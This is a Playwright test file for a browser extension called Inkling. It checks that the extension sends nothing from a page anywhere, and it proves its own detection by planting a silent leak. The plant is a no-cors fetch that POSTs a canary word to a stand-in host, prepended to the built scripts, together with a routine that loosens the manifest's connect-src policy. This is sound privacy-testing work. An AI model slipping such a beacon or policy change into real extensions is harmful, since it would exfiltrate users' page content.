import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DIST, ExtensionBrowser } from '../../tools/extension.ts';
import { expect, test } from './fixtures.ts';
import { type LoggingProxy, startLoggingProxy } from './loggingProxy.ts';

/**
 * Nothing leaves: a browser whose every connection goes through our proxy, on a page full of words that
 * stand nowhere else, makes the same connections with Inkling as without it, and no such word is in
 * any of them. The same walk with a leak planted in a copy of the extension must be seen, or the silence
 * would prove nothing.
 */
const CANARIES = ['quillfish', 'zorblatt', 'pemmicanry'];
const PAGE = 'http://town.test/';
const LEAK = 'leak.test';
const HTML = `<!doctype html><html lang="en"><title>Town</title>
<p>The quillfish has moved to the harbour, and nobody knows why it went there.</p>
<p>Congratulations! You have won a free zorblatt cruise! Click now to claim your prize!!!</p>
<p>You are a complete idiot and nobody wants you here, you stupid pemmicanry.</p>`;

let proxy: LoggingProxy;
let copy: string;

test.beforeEach(async () => {
  proxy = await startLoggingProxy({ [PAGE]: HTML });
  copy = await mkdtemp(join(tmpdir(), 'inkling-leak-'));
});
test.afterEach(async () => {
  await proxy.close();
  await rm(copy, { recursive: true, force: true });
});

/** Reads the page; with an extension, also teaches it something and restarts its engine. */
async function walk(extension: string | null, isWhole = true): Promise<void> {
  const inkling = await ExtensionBrowser.launch({ extension, args: proxy.args });
  try {
    const page = await inkling.context.newPage();
    await page.goto(PAGE);
    if (extension && isWhole) {
      expect((await inkling.judged(page)).blocks).toBe(3);
      const popup = await inkling.openPopup(page);
      await popup.getByRole('button', { name: 'Wrong' }).first().click();
      await expect(popup.getByText('You said')).toBeVisible();
      await inkling.killOffscreen();
      await page.reload();
      await inkling.judged(page);
    }
    // Whatever waits for an idle moment gets one.
    await page.waitForTimeout(1500);
  } finally {
    await inkling.close();
  }
}

function canariesIn(log: readonly string[]): string[] {
  return CANARIES.filter((word) => log.some((entry) => entry.includes(word)));
}

/** A copy of the built extension in which `file` begins with a leak. */
async function plantIn(file: string): Promise<string> {
  await cp(DIST, copy, { recursive: true });
  const text = await readFile(join(copy, file), 'utf8');
  const leak = `fetch('http://${LEAK}/', { method: 'POST', mode: 'no-cors', body: '${CANARIES[0]}' }).catch(() => {});`;
  await writeFile(join(copy, file), `${leak}\n${text}`);
  return copy;
}

/** Lets the extension pages of the copy connect to anywhere. */
async function loosenPolicy(): Promise<void> {
  const file = join(copy, 'manifest.json');
  const manifest = JSON.parse(await readFile(file, 'utf8'));
  const policy = manifest.content_security_policy.extension_pages as string;
  manifest.content_security_policy.extension_pages = policy.replace("connect-src 'none'", 'connect-src *');
  await writeFile(file, JSON.stringify(manifest));
}

async function offscreenScript(): Promise<string> {
  const name = (await readdir(join(DIST, 'assets'))).find((file) => /^offscreen-.*\.js$/.test(file));
  return `assets/${name}`;
}

test('the extension causes no connection, and nothing of the page leaves', async () => {
  await walk(null);
  const hostsWithout = proxy.hosts();
  expect(hostsWithout).toEqual(['town.test']);

  await walk(DIST);
  expect(proxy.hosts()).toEqual(hostsWithout);
  expect(canariesIn(proxy.log)).toEqual([]);
});

test('a leak planted in the content script is seen', async () => {
  await walk(await plantIn('src/content/content.iife.js'));
  expect(proxy.hosts()).toContain(LEAK);
  expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
});

test('a leak planted in the offscreen page is stopped by the policy', async () => {
  await walk(await plantIn(await offscreenScript()), false);
  expect(proxy.hosts()).not.toContain(LEAK);
});

test('without the policy, a leak planted in the offscreen page is seen', async () => {
  await plantIn(await offscreenScript());
  await loosenPolicy();
  await walk(copy, false);
  expect(proxy.hosts()).toContain(LEAK);
  expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
});
